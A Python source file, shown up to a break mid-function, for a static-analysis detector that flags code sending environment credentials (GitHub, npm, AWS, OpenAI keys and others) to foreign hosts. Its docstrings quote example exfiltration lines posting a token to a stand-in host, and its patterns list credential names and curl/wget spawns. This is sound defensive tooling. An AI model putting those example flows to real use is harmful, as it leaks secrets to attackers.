"""A well-known credential read from the environment and handed to a request to another host,
in a Python, JavaScript or shell script (`secret-in-url`): `token = os.environ['GITHUB_TOKEN']`
then `requests.post("https://x.example/t", data=token)`, `const { NPM_TOKEN } = process.env` then
`fetch(URL, {body: NPM_TOKEN})` with `URL` a literal elsewhere in the file.

The credential is followed through the common shapes: a name or a dict/object built from it
(`h = {"Authorization": f"token {os.environ['GITHUB_TOKEN']}"}` then `headers=h`), a function's
parameter (`def send(tok): requests.post(URL, data=tok)` then `send(token)`), a thin wrapper
whose URL is a parameter (`def ship(url, body): return urlopen(url, data=body)`), and in shell
a variable (`H="Authorization: token $GITHUB_TOKEN"` then `curl -H "$H" …`) or a function's
`$1`/`"$@"`.

Text-based and linear in the file: brackets are matched once, each assignment's value and each
call's arguments are read at their own nesting level only (nested brackets are jumped over), and
"does this span hold the credential" is a binary search in the sorted positions where it is.
The credentials and their own services are those of the `secret-in-url` rule in rules.yaml.
"""

from __future__ import annotations

import bisect
import re
from collections.abc import Iterable
from dataclasses import dataclass, field

from orkestra.intake.pyaudit import Hit

_CREDS = (
    r"(?:GITHUB_TOKEN|GH_TOKEN|GITHUB_PAT|GITHUB_API_TOKEN|NPM_TOKEN|NODE_AUTH_TOKEN"
    r"|PYPI_(?:API_)?TOKEN|TWINE_PASSWORD|AWS_SECRET_ACCESS_KEY|AWS_SESSION_TOKEN|OPENAI_API_KEY"
    r"|ANTHROPIC_API_KEY|CLAUDE_API_KEY|HF_TOKEN|HUGGING_FACE_HUB_TOKEN|CARGO_REGISTRY_TOKEN"
    r"|DOCKER_PASSWORD|DOCKERHUB_TOKEN|SLACK_(?:BOT_)?TOKEN|STRIPE_SECRET_KEY)"
)
_CRED_NAME = re.compile(_CREDS)
_ANY = re.compile(rf"\b{_CREDS}\b|\bgh\s+auth\s+token\b")
_OWN = re.compile(
    r"(?:^|\.)(?:github\.com|ghe\.com|githubusercontent\.com|ghcr\.io|npmjs\.org|npmjs\.com|pypi\.org"
    r"|openai\.com|anthropic\.com|huggingface\.co|crates\.io|docker\.io|docker\.com|slack\.com"
    r"|stripe\.com)$",
    re.I,
)
#: an environment read of a well-known credential, inline
_READ = re.compile(
    rf"(?:(?:\bos\.|(?<![\w.]))environ(?:\[\s*|\.get\(\s*)|\bos\.getenv\(\s*|\bgetenv\(\s*)"
    rf"[\"']{_CREDS}[\"']|\bprocess\.env(?:\.|\[\s*[\"'`]){_CREDS}\b"
)
#: a name for the whole environment: `env = process.env`, `env = dict(os.environ)`
_ENV_ALIAS = re.compile(
    r"^[ \t]*(?:(?:const|let|var)[ \t]+)?([A-Za-z_$][\w$]*)[ \t]*=[ \t]*(?:dict\(\s*os\.environ\s*\)"
    r"|(?:os\.)?environ(?:\.copy\(\))?|process\.env|\{\s*\.\.\.process\.env\s*\})[ \t]*;?[ \t]*$",
    re.M,
)
#: a client bound to one host: `c = http.client.HTTPSConnection("h")`, `httpx.Client(base_url=…)`,
#: `axios.create({ baseURL: … })`
_CLIENT = re.compile(
    r"^[ \t]*(?:(?:const|let|var)[ \t]+)?([A-Za-z_$][\w$]*)[ \t]*=[ \t]*(?:await[ \t]+)?[\w.]*?"
    r"(?:HTTPS?Connection\(\s*[\"']([\w.-]+)"
    r"|(?:Client|AsyncClient|Session|create)\(\s*(?:\{\s*)?(?:base_url|baseURL)\s*[=:]\s*"
    r"f?[\"'`](https?://[^\"'`\s]+))",
    re.M,
)
_METHOD = re.compile(
    r"(?<![\w$.])([A-Za-z_$][\w$]*)\s*\.\s*(?:post|put|patch|get|delete|request|send|stream)\s*\("
)
#: a command run with curl/wget in its arguments: `subprocess.run(["curl", …])`, `execSync(…)`
_SPAWN = re.compile(
    r"\b(?:subprocess\.(?:run|call|check_call|check_output|Popen)|os\.system|os\.popen"
    r"|execFileSync|execFile|execSync|spawnSync|spawn)\s*\("
)
_FETCH_WORD = re.compile(r"\b(?:curl|wget)\b")
_ANY_URL = re.compile(r"https?://(?:[^\s/@\"'`]*@)?([\w.-]+)")
_DESTRUCTURED = re.compile(r"\b(?:const|let|var)\s*\{([^}]{0,400})\}\s*=\s*process\.env\b")
_URL_NAME = re.compile(
    r"^[ \t]*(?:(?:export\s+)?(?:const|let|var)\s+)?([A-Za-z_]\w*)[ \t]*(?::[ \t]*\w+[ \t]*)?=[ \t]*"
    r"f?[\"'`](https?://[^\"'`\s]+)[\"'`]",
    re.M,
)
_CALL = re.compile(
    r"\b(?:post|put|patch|get|delete|request|urlopen|Request|fetch|axios|got)\s*\(\s*"
    r"(?:[\"'](?:GET|POST|PUT|PATCH|DELETE)[\"']\s*,\s*)?(?:url\s*=\s*)?"
    r"(?:f?[\"'`](https?://[^\"'`\s]+)[\"'`]|([A-Za-z_]\w*)\b(?!\s*[.(\[]))"
)
#: Node's http modules under a name: `const client = require('node:https')`, `import h from 'https'`
_NODE_HTTP = re.compile(
    r"\b(?:const|let|var)\s+([A-Za-z_$][\w$]*)\s*=\s*require\(\s*[\"'](?:node:)?https?[\"']\s*\)"
    r"|\bimport\s+(?:\*\s+as\s+)?([A-Za-z_$][\w$]*)\s+from\s+[\"'](?:node:)?https?[\"']"
)
_NODE_HOST = re.compile(r"(?<![\w$])(?:hostname|host)[\"']?\s*:\s*[\"'`]([\w.-]+)[\"'`]")
_NODE_BOUND = re.compile(
    r"(?<![\w$.])([A-Za-z_$][\w$]*)[ \t]*=[ \t]*(?:await[ \t]+)?(?=[\w$.\s]*$)"
)
_NODE_CHAIN = re.compile(r"\s*\.\s*([A-Za-z_$][\w$]*)\s*\(")
_NODE_WRITE = re.compile(r"(?<![\w$.])([A-Za-z_$][\w$]*)\s*\.\s*(?:write|end)\s*\(")
_HOST = re.compile(r"https?://(?:[^\s/@]*@)?([\w.-]+)")
_ARGS_MAX = 4000
_PARAMS_MAX = 32  # parameters of one function followed (the rest are not)

#: a statement-level assignment: `h = {…}`, `const opts = {…}`, `s.headers["X"] = …`,
#: `x: dict[str, str] = …` (a keyword argument `data=…` inside a call is not one)
_ASSIGN = re.compile(
    r"^[ \t]*(?:(?:export[ \t]+)?(?:const|let|var)[ \t]+)?([A-Za-z_$][\w$]*)"
    r"(?:\[[^\]\n]{0,200}\]|\.[A-Za-z_$][\w$]*)*[ \t]*(?::[^=\n]{1,80})?(?<![=!<>+\-*/%&|^])=(?!=)",
    re.M,
)
_NAME = re.compile(r"[A-Za-z_$][\w$]*")
_REQUEST_ON = re.compile(
    r"[ \t]*\.[ \t]*(?:get|post|put|patch|delete|request|stream|fetch)[ \t]*\("
)
_OPENER = re.compile(r"[(\[{]")
_ARG_STOP = re.compile(r"[,(\[{]")
_PY_DEF = re.compile(r"^([ \t]*)(?:async[ \t]+)?def[ \t]+([A-Za-z_]\w*)[ \t]*\(", re.M)
_JS_FUNCTION = re.compile(
    r"\bfunction\b[ \t]*\*?[ \t]*([A-Za-z_$][\w$]*)[ \t]*\("
    r"|\b(?:const|let|var)[ \t]+([A-Za-z_$][\w$]*)[ \t]*=[ \t]*(?:async[ \t]*)?"
    r"(?:function\b[ \t]*\*?[ \t]*[\w$]*[ \t]*\(|\((?=[^()\n]*\)[ \t]*=>)|([A-Za-z_$][\w$]*)[ \t]*=>)"
)
#: a method in an object literal or a class: `send(t) {`, `async send(t) {`, `static send(t) {`,
#: `send: function (t) {`, `send: (t) => {`, `send: t => …`
_JS_METHOD = re.compile(
    r"^[ \t]*(?:(?:static|async|get|set)[ \t]+)*\*?[ \t]*([A-Za-z_$][\w$]*)[ \t]*"
    r"(?::[ \t]*(?:async[ \t]*)?(?:function\b[ \t]*\*?[ \t]*[\w$]*[ \t]*\(|\((?=[^()\n]*\)[ \t]*=>)"
    r"|([A-Za-z_$][\w$]*)[ \t]*=>)|\((?=[^()\n]*\)(?:[ \t]*:[^{;\n]{1,80})?[ \t]*\{))",
    re.M,
)
_JS_KEYWORDS = frozenset(
    {"if", "for", "while", "switch", "catch", "function", "return", "with", "do", "else", "await"}
)
_CALLED = re.compile(r"(?<![\w$])([A-Za-z_$][\w$]*)[ \t]*\(")
_KEYWORD_ARG = re.compile(r"\s*([A-Za-z_]\w*)\s*=(?!=)")
_SPREAD = re.compile(r"\s*(?:\*\*?|\.\.\.)")
_PARAM_NAME = re.compile(r"[\s*.]*([A-Za-z_$][\w$]*)")


@dataclass
class _Function:
    name: str
    params: list[str]
    body: tuple[int, int]
    #: kind A: parameter -> the foreign host it is sent to; kind B: index of the URL parameter
    sends: dict[str, str] = field(default_factory=dict)
    url_param: int | None = None
    defaults: dict[str, tuple[int, int]] = field(default_factory=dict)
    #: locals built from a parameter -> that parameter
    carries: dict[str, str] = field(default_factory=dict)


def credential_flow(text: str, lang: str = "python") -> list[Hit]:
    """`secret-in-url` hits: a request to a literal URL of another host (or a name holding one)
    whose arguments hold a well-known credential read from the environment, directly or
    through a name, a dict, a function's parameter or a wrapper. `lang`: python, js or shell."""
    if _ANY.search(text) is None and _COMPUTED.search(text) is None:
        return []
    hits = _shell_flow(text) if lang == "shell" else _Flow(text, lang).hits()
    return [hit for hit in hits if not _AWS_OWN.fullmatch(hit.detail)]


#: an environment read whose key is built at run time, an indirect shell expansion: what may
#: read a credential without naming it in one piece
_COMPUTED = re.compile(
    r"(?:environ\s*(?:\[|\.get\s*\()|getenv\s*\(|process\.env\s*\[)\s*"
    r"(?![\"'][\w]*[\"']\s*[\]),])|\$\{![A-Za-z_]|\beval\b[^\n]*\\\$"
    # the environment or its getter under another name, read later with a key built at run time
    r"|=[ \t]*(?:dict\([ \t]*)?(?:os\.)?(?:environ|getenv)\b(?![ \t]*(?:[\[(]|\.get[ \t]*\())"
    r"|=[ \t]*(?:process\.env|\{[ \t]*\.\.\.process\.env[ \t]*\})[ \t]*[;\n]"
    r"|\bimport[ \t]+(?:environ|getenv)\b|[\"'](?:node:)?process[\"']"
)
#: where the environment is read by a key: `os.environ[`, `os.getenv(`, `process.env[`
_ENV_AT = re.compile(
    r"(?<![\w$.])(?:(?:os\.)?environ\s*(?:\[|\.get\s*\()|(?:os\.)?getenv\s*\(|process\.env\s*\[)"
)
#: another name for the environment or its getter: `from os import environ as E`,
#: `ge = os.getenv`, `const { env } = process`, `const { env: e } = process`
_ENV_NAME = re.compile(
    r"\bfrom[ \t]+os[ \t]+import[ \t]+[^\n]*?\b(environ|getenv)[ \t]+as[ \t]+([A-Za-z_]\w*)"
    r"|^[ \t]*([A-Za-z_$][\w$]*)[ \t]*=[ \t]*((?:os\.)?(?:getenv|environ\.get))[ \t]*;?[ \t]*$"
    r"|\b(?:const|let|var)[ \t]*\{[^}\n]{0,200}?(?<![\w$])env[ \t]*(?::[ \t]*([A-Za-z_$][\w$]*))?"
    r"[^}\n]{0,200}\}[ \t]*=[ \t]*(?:process\b|require\([ \t]*[\"'](?:node:)?process[\"'][ \t]*\))"
    r"|\bimport[ \t]*\{[^}\n]{0,200}?(?<![\w$])env(?:[ \t]+as[ \t]+([A-Za-z_$][\w$]*))?"
    r"[^}\n]{0,200}\}[ \t]*from[ \t]*[\"'](?:node:)?process[\"']",
    re.M,
)
#: a name bound to string constants: `KEY = 'GITHUB_TOKEN'`, `const p = 'NPM'`,
#: `NAMES = ('GITHUB_TOKEN', 'GH_TOKEN')`, `for name in ('GITHUB_TOKEN', 'GH_TOKEN'):`
_CONST = re.compile(
    r"^[ \t]*(?:(?:export[ \t]+)?(?:const|let|var)[ \t]+)?([A-Za-z_$][\w$]*)[ \t]*(?::[ \t]*\w+[ \t]*)?"
    r"=[ \t]*([^\n;]{1,300}?)[ \t]*;?[ \t]*$"
    r"|^[ \t]*for[ \t]*\(?[ \t]*(?:(?:const|let|var)[ \t]+)?([A-Za-z_$][\w$]*)[ \t]+(?:in|of)[ \t]+"
    r"([^\n:]{1,300}?)[ \t]*\)?[ \t]*[:{]?[ \t]*$",
    re.M,
)
_KEY_TOKEN = re.compile(
    r"\s*(?:([fFrRbBuU]{0,2})(\"(?:[^\"\\\n]|\\.)*\"|'(?:[^'\\\n]|\\.)*'|`[^`]*`)"
    r"|([A-Za-z_$][\w$]*)(?:\[\s*\d+\s*\])?|(\+))\s*"
)
_PLACEHOLDER = re.compile(r"\$?\{\s*([A-Za-z_$][\w$]*)\s*\}")
_FOLD_MAX = 16  # possible values of one key followed (the rest are not)


def _fold(expr: str, consts: dict[str, list[str]]) -> list[str] | None:
    """The strings a key expression may be: literals glued with `+`, f-strings and template
    literals whose placeholders are constants, names bound to constants; None if not known."""
    values = [""]
    at, glue = 0, True
    while at < len(expr):
        m = _KEY_TOKEN.match(expr, at)
        if m is None or m.end() == at:
            return None
        at = m.end()
        if m.group(4):
            glue = True
            continue
        if not glue:
            return None
        glue = False
        if m.group(3):
            pieces = consts.get(m.group(3))
            if pieces is None:
                return None
        else:
            body = m.group(2)[1:-1]
            templated = m.group(2)[0] == "`" or "f" in m.group(1).lower()
            pieces = [body]
            if templated:
                for holder in _PLACEHOLDER.finditer(body):
                    known = consts.get(holder.group(1))
                    if known is None:
                        return None
                    pieces = [p.replace(holder.group(0), k, 1) for p in pieces for k in known]
        values = [v + p for v in values for p in pieces][:_FOLD_MAX]
    return values if not glue else None


def _constants(text: str) -> dict[str, list[str]]:
    """Names bound to string constants (or a list of them), folded in file order twice."""
    found: list[tuple[str, str]] = []
    for m in _CONST.finditer(text):
        name, value = (m.group(1), m.group(2)) if m.group(1) else (m.group(3), m.group(4))
        value = value.strip()
        if value[:1] in "([{":
            value = value[1:].rstrip(")]} \t")
        if value[:1] in "\"'`fFrRbBuU" or value[:1].isalpha() or value[:1] in "_$":
            found.append((name, value))
    consts: dict[str, list[str]] = {}
    for _ in range(2):
        for name, value in found:
            items: list[str] = []
            for item in _split_top(value):
                folded = _fold(item, consts)
                if folded is None:
                    items = []
                    break
                items += folded
            if items:
                consts[name] = items[:_FOLD_MAX]
    return consts


def _split_top(value: str) -> list[str]:
    """`'a', 'b'` -> its items (a comma inside quotes kept)."""
    items: list[str] = []
    quote, begin = "", 0
    for index, char in enumerate(value):
        if quote:
            if char == quote:
                quote = ""
        elif char in "\"'`":
            quote = char
        elif char == ",":
            items.append(value[begin:index])
            begin = index + 1
    items.append(value[begin:])
    return [item for item in items if item.strip()] or [value]


#: AWS keys sign requests to AWS itself (`curl --aws-sigv4 --user id:$AWS_SECRET_ACCESS_KEY`)
_AWS_OWN = re.compile(r"sends .*AWS_\w+.* to (?:[\w-]+\.)*amazonaws\.com(?:\.cn)?", re.S)


class _Flow:
    """One Python or JavaScript file: its brackets, names and calls, each read once."""

    def __init__(self, text: str, lang: str) -> None:
        self.text = text
        self.lang = lang
        self.close = _match_brackets(text)
        self.sources = [(m.start(), m.group(0)) for m in _READ.finditer(text)]
        aliases = {m.group(1) for m in _ENV_ALIAS.finditer(text)}
        getters: set[str] = set()
        for m in _ENV_NAME.finditer(text):
            if m.group(1):  # `from os import environ as E` / `getenv as ge`
                (aliases if m.group(1) == "environ" else getters).add(m.group(2))
            elif m.group(3):  # `ge = os.getenv`
                getters.add(m.group(3))
            else:  # `const { env } = process`, `const { env: e } = process`
                aliases.add(m.group(5) or m.group(6) or "env")
        self.aliases = aliases
        self._computed(aliases, getters)
        if aliases:  # `env.GITHUB_TOKEN`, `env["GITHUB_TOKEN"]`, `env.get("GITHUB_TOKEN")`
            via = re.compile(
                rf"(?<![\w$.])(?:{'|'.join(map(re.escape, sorted(aliases)))})"
                rf"(?:\.|\[\s*[\"'`]|\.get\(\s*[\"']){_CREDS}\b"
            )
            self.sources = sorted(
                [*self.sources, *((m.start(), m.group(0)) for m in via.finditer(text))]
            )
        self.urls = {m.group(1): m.group(2) for m in _URL_NAME.finditer(text)}
        self.starts: list[int] | None = None

    def _computed(self, aliases: set[str], getters: set[str]) -> None:
        """Reads whose key is built at run time (`os.environ['GITHUB' + '_TOKEN']`,
        `os.environ[KEY]`, `process.env[`${kind}_TOKEN`]`) or made through another name for the
        environment or its getter (`ge = os.getenv; ge('GITHUB_TOKEN')`): the key is folded
        from the file's string constants and counts when it may be a well-known credential."""
        text = self.text
        at_re = _ENV_AT
        if aliases or getters:
            names = "|".join(map(re.escape, sorted(aliases)))
            calls = "|".join(map(re.escape, sorted(getters)))
            at_re = re.compile(
                rf"{_ENV_AT.pattern}"
                + (rf"|(?<![\w$.])(?:{names})\s*(?:\[|\.get\s*\()" if names else "")
                + (rf"|(?<![\w$.])(?:{calls})\s*\(" if calls else "")
            )
        consts: dict[str, list[str]] | None = None
        found = []
        for m in at_re.finditer(text):
            open_at = m.end() - 1
            end = min(self._args_end(open_at), open_at + 1 + 300)
            key = _split_top(text[open_at + 1 : end])[0]
            if consts is None:
                consts = _constants(text)
            values = _fold(key.strip(), consts)
            if values and any(_CRED_NAME.fullmatch(v) for v in values):
                found.append((m.start(), f"{m.group(0)}{key.strip()}"[:120]))
        if found:
            self.sources = sorted({*self.sources, *found})

    def line(self, at: int) -> int:
        """The line number of position `at` (line starts found once)."""
        if self.starts is None:
            self.starts = [0, *(m.end() for m in re.finditer("\n", self.text))]
        return bisect.bisect_right(self.starts, at)

    def hits(self) -> list[Hit]:
        text = self.text
        tainted: dict[str, str] = {}  # name -> the credential read it holds
        destructured = _DESTRUCTURED
        if self.aliases:  # `const e = process.env; const { NPM_TOKEN: tok } = e`
            either = "|".join(map(re.escape, sorted(self.aliases)))
            destructured = re.compile(
                rf"\b(?:const|let|var)\s*\{{([^}}]{{0,400}})\}}\s*=\s*"
                rf"(?:process\.env|{either})\b(?!\s*[.\[])"
            )
        for m in destructured.finditer(text):
            for part in m.group(1).split(","):
                key, _, alias = part.partition(":")
                if _ANY.fullmatch(key.strip()):
                    tainted[(alias or key).strip().split("=")[0].strip()] = key.strip()
        if not self.sources and not tainted:
            return []
        functions = self._functions()
        assigns = [(m.group(1), m.end(), self._extent(m.end())) for m in _ASSIGN.finditer(text)]
        names = {name for name, _, _ in assigns} | set(tainted)
        for function in functions:
            names.update(p.lstrip("*") for p in function.params)
        self.tokens = _tokens(text, names)
        self.by_name: dict[str, list[int]] = {}
        for at, name in self.tokens:
            self.by_name.setdefault(name, []).append(at)
        for function in functions:  # a parameter whose default is the credential
            for name, (start, end) in self._param_spans(function):
                read = self._first_source(start, end)
                if read is not None:
                    tainted.setdefault(name, read)
        for _ in range(2):  # twice: a name used above the line that binds it
            tainted = self._propagate(assigns, tainted)
        self.hot = sorted(
            [
                *self.sources,
                *((at, f"{name} ({tainted[name]})") for at, name in self.tokens if name in tainted),
            ]
        )
        self.hot_at = [at for at, _ in self.hot]
        # a local built from a parameter carries it: `h = {"A": f"token {tok}"}` in `send(tok)`
        owners = self._innermost([start for _, start, _ in assigns], functions)
        for (name, start, end), owner in zip(assigns, owners, strict=True):
            if owner is None or len(owner.carries) >= _PARAMS_MAX:
                continue
            for param in [*owner.params[:_PARAMS_MAX], *owner.carries]:
                if self._uses(param.lstrip("*"), start, end):
                    owner.carries.setdefault(name, owner.carries.get(param, param.lstrip("*")))
                    break
        calls = list(_CALL.finditer(text))
        found: dict[int, Hit] = {}
        inners = self._innermost([call.start() for call in calls], functions)
        for call, inner in zip(calls, inners, strict=True):
            self._direct(call, inner, tainted, found)
        self._clients(found)
        self._spawned(found)
        if self.lang == "js":
            self._node_requests(found, assigns)
        for _ in range(2):  # twice: a wrapper of a wrapper (`report(b)` calls `_send(URL, b)`)
            derived = {f.name: f for f in functions if f.sends or f.url_param is not None}
            if derived:
                self._through(derived, found, functions)
        return [found[at] for at in sorted(found)]

    # --- reading -------------------------------------------------------------------------

    def _extent(self, start: int) -> int:
        """The end of a statement's value from `start`: its line, carried on while a bracket
        opened on it is still open (nested brackets are jumped over, not read)."""
        text = self.text
        end = _line_end(text, start)
        at = start
        while True:
            opener = _OPENER.search(text, at, end)
            if opener is None:
                return end
            closing = self.close.get(opener.start())
            if closing is None:
                return min(len(text), opener.start() + _ARGS_MAX)
            at = closing + 1
            if closing >= end:
                end = _line_end(text, closing)

    def _args_end(self, open_at: int) -> int:
        closing = self.close.get(open_at)
        return closing if closing is not None else min(len(self.text), open_at + _ARGS_MAX)

    def _first_source(self, start: int, end: int) -> str | None:
        at = bisect.bisect_left(self.sources, (start, ""))
        if at < len(self.sources) and self.sources[at][0] < end:
            return self.sources[at][1]
        return None

    def _first_hot(self, start: int, end: int) -> str | None:
        at = bisect.bisect_left(self.hot_at, start)
        if at < len(self.hot_at) and self.hot_at[at] < end:
            return self.hot[at][1]
        return None

    def _propagate(
        self, assigns: list[tuple[str, int, int]], tainted: dict[str, str]
    ) -> dict[str, str]:
        """Names whose value holds the credential or a name that does, in one sweep over the
        values (an inner value that holds it makes the one around it hold it too)."""
        events: list[tuple[int, int, int]] = []  # (position, order, index): close, open, use
        for index, (_, start, end) in enumerate(assigns):
            events.append((start, 1, index))
            events.append((end, 0, index))
        for index, _ in enumerate(self.sources):
            events.append((self.sources[index][0], 2, index))
        for index, (at, _) in enumerate(self.tokens):
            events.append((at, 3, index))
        events.sort()
        stack: list[int] = []
        opened: set[int] = set()
        hot: dict[int, str] = {}  # open value -> the credential read it holds
        found = dict(tainted)
        for _, order, index in events:
            if order == 1:
                stack.append(index)
                opened.add(index)
            elif order >= 2 and stack:  # a read, or a name found to hold one by now
                read = self.sources[index][1] if order == 2 else found.get(self.tokens[index][1])
                if read is not None:
                    hot.setdefault(stack[-1], read)
            elif order == 0 and index in opened:
                while stack:
                    top = stack.pop()
                    opened.discard(top)
                    if top in hot:
                        found.setdefault(assigns[top][0], hot[top])
                        if stack:
                            hot.setdefault(stack[-1], hot[top])
                    if top == index:
                        break
        return found

    def _functions(self) -> list[_Function]:
        text = self.text
        found: list[_Function] = []
        if self.lang == "python":
            defs = list(_PY_DEF.finditer(text))
            ends = _python_blocks(text, [(m.start(), len(m.group(1))) for m in defs])
            for m, end in zip(defs, ends, strict=True):
                open_at = m.end() - 1
                close = self._args_end(open_at)
                params, given = _params(text, open_at + 1, close, self.close)
                found.append(_Function(m.group(2), params, (close, end), defaults=given))
            return found
        heads = [
            (m.start(), m.group(1) or m.group(2), m.group(3), m.end())
            for m in _JS_FUNCTION.finditer(text)
        ]
        heads += [
            (m.start(), m.group(1), m.group(2), m.end())
            for m in _JS_METHOD.finditer(text)
            if m.group(1) not in _JS_KEYWORDS
        ]
        heads.sort()
        for _, name, arrow_param, head_end in heads:
            defaults: dict[str, tuple[int, int]] = {}
            if arrow_param:  # `const f = tok => …`
                params, after = [arrow_param], head_end
            else:
                open_at = head_end - 1
                close = self._args_end(open_at)
                params, defaults = _params(text, open_at + 1, close, self.close)
                after = close + 1
            body = re.compile(r"[ \t]*(?:=>[ \t]*)?(\{)?").match(text, after)
            if body is not None and body.group(1):
                start = body.start(1)
                end = self.close.get(start, min(len(text), start + _ARGS_MAX))
            else:
                start = body.end() if body is not None else after
                end = self._extent(start)
            found.append(_Function(name, params, (start, end), defaults=defaults))
        return found

    def _param_spans(self, function: _Function) -> list[tuple[str, tuple[int, int]]]:
        """(parameter, span of its default value) for the parameters given one."""
        return list(function.defaults.items())

    @staticmethod
    def _innermost(positions: list[int], functions: list[_Function]) -> list[_Function | None]:
        """For each position (ascending), the innermost function whose body holds it."""
        order = sorted(functions, key=lambda f: (f.body[0], -f.body[1]))
        out: list[_Function | None] = []
        stack: list[_Function] = []
        index = 0
        for at in positions:
            while index < len(order) and order[index].body[0] <= at:
                function = order[index]
                index += 1
                while stack and stack[-1].body[1] <= function.body[0]:
                    stack.pop()
                stack.append(function)
            while stack and stack[-1].body[1] <= at:
                stack.pop()
            out.append(stack[-1] if stack else None)
        return out

    # --- judging -------------------------------------------------------------------------

    def _direct(
        self,
        call: re.Match[str],
        function: _Function | None,
        tainted: dict[str, str],
        found: dict[int, Hit],
    ) -> None:
        text = self.text
        open_at = text.index("(", call.start())
        args = (call.end(), self._args_end(open_at))
        name = call.group(2)
        wrapper = function is not None and call.group(1) is None and name not in self.urls
        if function is not None and wrapper and name in function.params:
            function.url_param = function.params.index(name)  # the URL is the caller's
            return
        url = call.group(1) or self.urls.get(name or "")
        host = _HOST.match(url or "")
        if host is None or _OWN.search(host.group(1)):
            return
        sent = self._first_hot(*args)
        owner = _owner(text, call.start())
        if sent is None and owner in tainted:  # `session.post(…)` with the token in its headers
            sent = f"{owner} ({tainted[owner]})"
        if sent is not None:
            found.setdefault(call.start(), _hit(self.line(call.start()), sent, host.group(1)))
        if function is not None:
            for param in function.params[:_PARAMS_MAX]:
                if self._uses(param.lstrip("*"), *args):
                    function.sends.setdefault(param.lstrip("*"), host.group(1))
            for local, param in function.carries.items():
                if self._uses(local, *args):
                    function.sends.setdefault(param, host.group(1))

    def _uses(self, name: str, start: int, end: int) -> bool:
        positions = self.by_name.get(name, [])
        at = bisect.bisect_left(positions, start)
        return at < len(positions) and positions[at] < end

    def _through(
        self, derived: dict[str, _Function], found: dict[int, Hit], functions: list[_Function]
    ) -> None:
        """Calls of a function that sends a parameter to another host, or of a wrapper whose
        URL is a parameter, with the credential in the arguments; a call passing its own
        function's parameter on makes that function one that sends it too."""
        text = self.text
        sites = [call for call in _CALLED.finditer(text) if call.group(1) in derived]
        owners = self._innermost([call.start() for call in sites], functions)
        for call, owner in zip(sites, owners, strict=True):
            before = text[max(0, call.start() - 9) : call.start()]
            if re.search(r"(?:\bdef|\bfunction)\s+$", before):
                continue
            function = derived[call.group(1)]
            open_at = call.end() - 1
            positional, keywords = self._split(open_at + 1, self._args_end(open_at))
            params = function.params
            if params and params[0] in ("self", "cls") and before.endswith("."):
                params = params[1:]
            line = self.line(call.start())
            spread = next((p for p in params if p.startswith("*")), None)
            bound: list[tuple[str, tuple[int, int]]] = []
            for index, span in enumerate(positional):
                if index < len(params) and not params[index].startswith("*"):
                    bound.append((params[index], span))
                elif spread is not None:
                    bound.append((spread, span))
            for name, span in keywords:
                kw = next((p for p in params if p.startswith("**")), None)
                bound.append((name if name in params or kw is None else kw, span))
            for name, span in bound:
                host = function.sends.get(name.lstrip("*"))
                if host is None:
                    continue
                self._passes_on(owner, span, host)
                sent = self._first_hot(*span)
                if sent is not None:
                    found.setdefault(call.start(), _hit(line, sent, host))
                    break
            if function.url_param is None or call.start() in found:
                continue
            url_name = function.params[function.url_param]
            url_span = next((s for n, s in bound if n == url_name), None)
            if url_span is None:
                continue
            literal = text[url_span[0] : url_span[1]].strip()
            given = re.match(r"f?[\"'`](https?://[^\"'`\s]+)[\"'`]", literal)
            url = given.group(1) if given else self.urls.get(literal)
            target = _HOST.match(url or "")
            if target is None or _OWN.search(target.group(1)):
                continue
            for name, span in bound:
                if name == url_name:
                    continue
                self._passes_on(owner, span, target.group(1))
                sent = self._first_hot(*span)
                if sent is not None:
                    found.setdefault(call.start(), _hit(line, sent, target.group(1)))
                    break

    def _passes_on(self, owner: _Function | None, span: tuple[int, int], host: str) -> None:
        """The function around a call that sends `span` to `host`: the parameters (or locals
        built from them) it passes there are sent too."""
        if owner is None:
            return
        for param in owner.params[:_PARAMS_MAX]:
            if self._uses(param.lstrip("*"), *span):
                owner.sends.setdefault(param.lstrip("*"), host)
        for local, param in owner.carries.items():
            if self._uses(local, *span):
                owner.sends.setdefault(param, host)

    def _clients(self, found: dict[int, Hit]) -> None:
        """`c.request("POST", "/v1", body=token)` on a client bound to another host."""
        text = self.text
        hosts: dict[str, str] = {}
        for m in _CLIENT.finditer(text):
            host = m.group(2) or (_HOST.match(m.group(3) or "") or m).group(1)
            if host and not _OWN.search(host):
                hosts[m.group(1)] = host
        if not hosts:
            return
        for call in _METHOD.finditer(text):
            host = hosts.get(call.group(1))
            if host is None:
                continue
            open_at = call.end() - 1
            sent = self._first_hot(open_at, self._args_end(open_at))
            if sent is not None:
                found.setdefault(call.start(), _hit(self.line(call.start()), sent, host))

    def _node_requests(self, found: dict[int, Hit], assigns: list[tuple[str, int, int]]) -> None:
        """Node's `https.request({ hostname: 'x.example', … }).end(token)`, `const req =
        http.request(url, opts, cb)` then `req.write(token)`: a request to another host whose
        options, or what is written to it, hold the credential."""
        text = self.text
        modules = {"http", "https"} | {m.group(1) or m.group(2) for m in _NODE_HTTP.finditer(text)}
        either = "|".join(map(re.escape, sorted(modules)))
        calls = list(re.finditer(rf"(?<![\w$.])(?:{either})\s*\.\s*(?:request|get)\s*\(", text))
        if not calls:
            return
        hosts = [(m.start(), m.group(1)) for m in _NODE_HOST.finditer(text)]
        host_at = [at for at, _ in hosts]

        def host_in(start: int, end: int) -> str | None:
            at = bisect.bisect_left(host_at, start)
            return hosts[at][1] if at < len(hosts) and host_at[at] < end else None

        named: dict[str, str] = {}  # `const opts = { hostname: … }`
        for name, start, end in assigns:
            host = host_in(start, end)
            if host is not None:
                named[name] = host
        writes: dict[str, list[int]] | None = None
        binds: list[str | None] = []
        for call in calls:
            bound = _NODE_BOUND.search(text, max(0, call.start() - 80), call.start())
            binds.append(bound.group(1) if bound is not None else None)
        following: list[int] = [len(text)] * len(calls)  # the next request bound to that name
        last: dict[str, int] = {}
        for index in range(len(calls) - 1, -1, -1):
            holder = binds[index]
            if holder is not None:
                following[index] = last.get(holder, len(text))
                last[holder] = calls[index].start()
        for index, call in enumerate(calls):
            open_at = call.end() - 1
            end = self._args_end(open_at)
            first = _split_top(text[open_at + 1 : min(end, open_at + 1 + _ARGS_MAX)])[0].strip()
            given = re.match(r"[\"'`](https?://[^\"'`\s]+)[\"'`]", first)
            url = given.group(1) if given else self.urls.get(first)
            target = _HOST.match(url or "")
            host = target.group(1) if target else named.get(first) or host_in(open_at, end)
            if host is None or _OWN.search(host):
                continue
            line = self.line(call.start())
            sent = self._first_hot(open_at, end)
            # what is written to the request: chained (`….end(token)`) or through its name
            spans: list[tuple[int, int]] = []
            at = end + 1
            for _ in range(8):
                link = _NODE_CHAIN.match(text, at)
                if link is None:
                    break
